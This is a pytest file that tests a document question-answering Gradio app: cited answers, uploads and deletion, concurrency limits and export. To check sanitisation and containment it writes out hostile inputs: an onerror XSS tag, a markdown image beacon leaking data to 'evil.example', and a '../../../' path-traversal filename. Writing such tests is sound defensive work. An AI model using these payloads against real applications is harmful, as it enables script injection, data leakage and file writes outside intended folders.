"""The real app in a subprocess, driven by gradio_client (its rendering helpers: test_ui.py).

The subprocess starts on an empty store, so it ingests the bundled corpus itself (~20 s) before serving.
"""
from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest

from rag.config import ROOT

from conftest import GREAT_FIREWALL, free_port, start_app, stop_app  # noqa: F401


# ============================================================================================== the running app
@pytest.fixture(scope="module")
def app_url(tmp_path_factory):
    folder = tmp_path_factory.mktemp("app")
    store = folder / "store"
    log = folder / "app.log"
    proc, url = start_app(store, log)
    yield url, store, log
    stop_app(proc)


@pytest.fixture
def client(app_url):
    from gradio_client import Client

    return Client(app_url[0], verbose=False)


def ask(client, question: str, doc_ids=None):
    chat, box, sources, positions, data, viewer = client.predict(question, doc_ids or [], api_name="/ask")
    return chat, sources, positions, data


def chat_text(message: dict) -> str:
    content = message["content"]
    if isinstance(content, list):
        return "".join(part.get("text", "") for part in content if isinstance(part, dict))
    return str(content)


def test_app_ingested_the_corpus_on_start(app_url):
    log = app_url[2].read_text()
    assert "The library is empty: adding the bundled documents" in log
    assert "2 added" in log


def test_ask_gives_a_cited_answer(client):
    chat, sources, positions, data = ask(client, GREAT_FIREWALL)
    assert data["found"] is True and data["citations"]
    assert re.search(r"\[\d+\]", data["answer"])
    assert any("Great Firewall" in c["text"] for c in data["citations"])
    assert [m["role"] for m in chat] == ["user", "assistant"]
    assert "(#cite-0-1)" in chat_text(chat[1])  # markers are links the page turns into 'open this source'
    assert "¶" in sources and 'data-n="1"' in sources


def test_answer_carries_support_weak_evidence_and_follow_ups(client):
    chat, _, _, data = ask(client, GREAT_FIREWALL)
    assert all(c["support"] == 1.0 for c in data["citations"])  # the extractive answer quotes verbatim
    assert isinstance(data["weak_evidence"], bool)
    assert ("rag-weak" in chat_text(chat[-1])) == data["weak_evidence"]
    options = [o["value"] for o in chat[-1].get("options") or []]
    assert options == data["follow_ups"]  # offered in the chat as clickable options


def test_follow_up_keeps_the_conversation(client):
    ask(client, GREAT_FIREWALL)
    chat, _, _, data = ask(client, "And what about censorship?")
    assert len(chat) == 4  # the session's conversation: both questions and both answers
    assert data["question"] == "And what about censorship?"


def test_not_found_is_marked(client):
    chat, sources, _, data = ask(client, "What does the UPR submission say about Brazil's deforestation?")
    assert data["found"] is False
    assert "Not in the documents" in chat_text(chat[-1])


def test_disagreement_positions_side_by_side(client):
    _, _, positions, data = ask(client, "What does the briefing say about Bachelet's visit to China?")
    assert data["disagreement"] is True  # the 2022 briefing reports praise and regret over the visit
    assert positions.count('class="rag-position"') == len(data["positions"]) >= 2


def test_upload_ask_and_delete(client, app_url, tmp_path):
    store = app_url[1]
    path = tmp_path / "zebra-crossing-policy-2031.md"
    path.write_text("# Zebra crossings\n\n1. The Ministry of Road Safety recommends that every zebra crossing near "
                    "a school be repainted in luminous purple by 2031.\n\n2. The ministry estimates the repainting "
                    "will cost 4.2 million pounds.\n\n"
                    "3. Evil content <img src=x onerror=alert(1)> and ![pixel](http://evil.example/?q=leak) here.\n",
                    encoding="utf-8")
    from gradio_client import handle_file

    report_html, report, _ = client.predict([handle_file(str(path))], api_name="/upload")
    assert [r["status"] for r in report] == ["added"], report
    assert report[0]["paragraphs"] >= 3 and "added" in report_html
    doc_id = report[0]["doc_id"]
    assert (store / "uploads" / path.name).is_file()
    assert not list((store / "uploads").glob(".incoming/*"))

    _, sources, _, data = ask(client, "What colour should zebra crossings near schools be repainted?", [doc_id])
    assert data["found"] and {c["doc"] for c in data["citations"]} == {doc_id}
    assert "purple" in data["answer"]

    chat, sources, _, data = ask(client, "What does the evil content say?", [doc_id])
    rendered = json.dumps(chat) + sources
    assert "<img" not in rendered and "evil.example" not in rendered

    message = client.predict(doc_id, api_name="/delete")
    assert "Deleted" in message
    assert not (store / "uploads" / path.name).exists()
    _, _, _, data = ask(client, "What colour should zebra crossings near schools be repainted?")
    assert doc_id not in {c["doc"] for c in data["citations"]}


def test_upload_of_a_disallowed_type_is_refused(client, app_url, tmp_path):
    store = app_url[1]
    bad = tmp_path / "payload.exe"
    bad.write_bytes(b"MZ not a report")
    from gradio_client import handle_file

    try:
        _, report, _ = client.predict([handle_file(str(bad))], api_name="/upload")
    except Exception as exc:  # noqa: BLE001 - Gradio's own file-type check refuses it first
        assert "Invalid file type" in str(exc) or "not accepted" in str(exc) or "Error" in type(exc).__name__
    else:
        assert [r["status"] for r in report] == ["failed"] and "not accepted" in report[0]["reason"]
    assert not list((store / "uploads").glob("payload*"))


def test_upload_name_cannot_escape_the_uploads_folder(app_url):
    """A crafted multipart filename and orig_name ('../../x.md') still lands inside <store>/uploads."""
    import httpx

    url, store, _ = app_url
    name = "../../../escape-attempt-2030.md"
    body = b"1. The escape committee recommends staying inside the uploads folder in 2030.\n"
    up = httpx.post(url + "/gradio_api/upload", files=[("files", (name, body, "text/markdown"))], timeout=30)
    up.raise_for_status()
    server_path = up.json()[0]
    payload = {"data": [[{"path": server_path, "orig_name": name, "meta": {"_type": "gradio.FileData"}}]]}
    event = httpx.post(url + "/gradio_api/call/upload", json=payload, timeout=30).json()["event_id"]
    with httpx.stream("GET", f"{url}/gradio_api/call/upload/{event}", timeout=120) as response:
        stream = "".join(response.iter_text())
    assert "event: complete" in stream, stream[-1000:]
    uploads = (store / "uploads").resolve()
    landed = [p for p in store.parent.rglob("escape-attempt-2030.md")]
    assert landed and all(p.resolve().is_relative_to(uploads) for p in landed), landed
    data = json.loads(stream.split("event: complete", 1)[1].split("data:", 1)[1].strip())
    report = data[1][0]
    assert report["status"] == "added" and "/" not in report["file"].removeprefix("uploads/")
    from gradio_client import Client

    Client(url, verbose=False).predict(report["doc_id"], api_name="/delete")
    assert not (uploads / "escape-attempt-2030.md").exists()


def test_recommendations_endpoint_filters(client):
    table = client.predict("firewall", "", api_name="/recommendations")
    rows = table["data"] if isinstance(table, dict) else table
    assert rows and all("firewall" in " ".join(map(str, r)).lower() for r in rows)
    assert any(r[1] == "9(8)" for r in rows)


def test_briefing_export(client):
    ask(client, GREAT_FIREWALL)
    files, preview = client.predict([], api_name="/briefing")
    paths = [Path(f) for f in files]
    assert {p.suffix for p in paths} == {".md", ".docx"}
    markdown = next(p for p in paths if p.suffix == ".md").read_text(encoding="utf-8")
    assert "Great Firewall" in markdown and "Great Firewall" in preview
    assert zipfile.is_zipfile(next(p for p in paths if p.suffix == ".docx"))


def test_a_second_app_on_the_same_store_is_refused(app_url):
    store = app_url[1]
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAG_")}
    done = subprocess.run([sys.executable, "app.py", "--port", str(free_port()), "--store", str(store)], cwd=ROOT,
                          env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2
    assert "in use by" in done.stderr


# ============================================================================================== many users at once
USERS_QUESTIONS = [
    GREAT_FIREWALL,
    "What does the 2018 submission say about the Social Credit System?",
    "How many defence lawyers were penalised between 2017 and 2021?",
    "What is recommended regarding torture in detention?",
    "What does the briefing say about Hong Kong?",
]


def test_twenty_users_at_once_each_get_their_own_answer(app_url):
    """20 simultaneous sessions: no errors, and every user gets the answer to *their* question (the same one a
    lone user gets), in a conversation holding only their own turn."""
    from concurrent.futures import ThreadPoolExecutor

    from gradio_client import Client

    url = app_url[0]

    def cited(data: dict) -> list[str]:
        return [c["paragraph_id"] for c in data["citations"]]

    alone = {q: cited(ask(Client(url, verbose=False), q)[3]) for q in USERS_QUESTIONS}
    assert all(alone.values())

    clients = [Client(url, verbose=False) for _ in range(20)]
    start = threading.Barrier(20)

    def user(i: int):
        question = USERS_QUESTIONS[i % len(USERS_QUESTIONS)]
        start.wait()
        chat, _, _, data = ask(clients[i], question)
        return question, chat, data

    with ThreadPoolExecutor(20) as pool:
        results = list(pool.map(user, range(20)))
    for question, chat, data in results:
        assert data["question"] == question
        assert cited(data) == alone[question], question
        assert len(chat) == 2 and chat_text(chat[0]) == question


def test_the_queue_is_bounded(corpus_store_dir, tmp_path):
    """With a queue of 2 and one worker, a burst of 12 askers: the overflow is refused at once with Gradio's
    'queue is full' (users see "try again"), the others are answered, and the app keeps serving."""
    import shutil
    from concurrent.futures import ThreadPoolExecutor

    from gradio_client import Client

    store = tmp_path / "store"
    shutil.copytree(corpus_store_dir, store, ignore=shutil.ignore_patterns(".lock"))
    proc, url = start_app(store, tmp_path / "app.log", env_extra={"RAG_QUEUE_SIZE": "2", "RAG_CONCURRENCY": "1"})
    try:
        clients = [Client(url, verbose=False) for _ in range(12)]
        start = threading.Barrier(12)

        def user(i: int) -> str:
            start.wait()
            try:
                ask(clients[i], USERS_QUESTIONS[i % len(USERS_QUESTIONS)])
                return "answered"
            except Exception as exc:  # noqa: BLE001 - gradio_client's QueueError, or an error wrapping it
                return "full" if "queue is full" in str(exc).lower() else f"error: {exc!r}"

        with ThreadPoolExecutor(12) as pool:
            outcomes = list(pool.map(user, range(12)))
        assert outcomes.count("full") >= 1, outcomes
        assert outcomes.count("answered") >= 3, outcomes
        assert set(outcomes) <= {"full", "answered"}, outcomes
        assert ask(Client(url, verbose=False), GREAT_FIREWALL)[3]["found"] is True  # still serving
    finally:
        stop_app(proc)
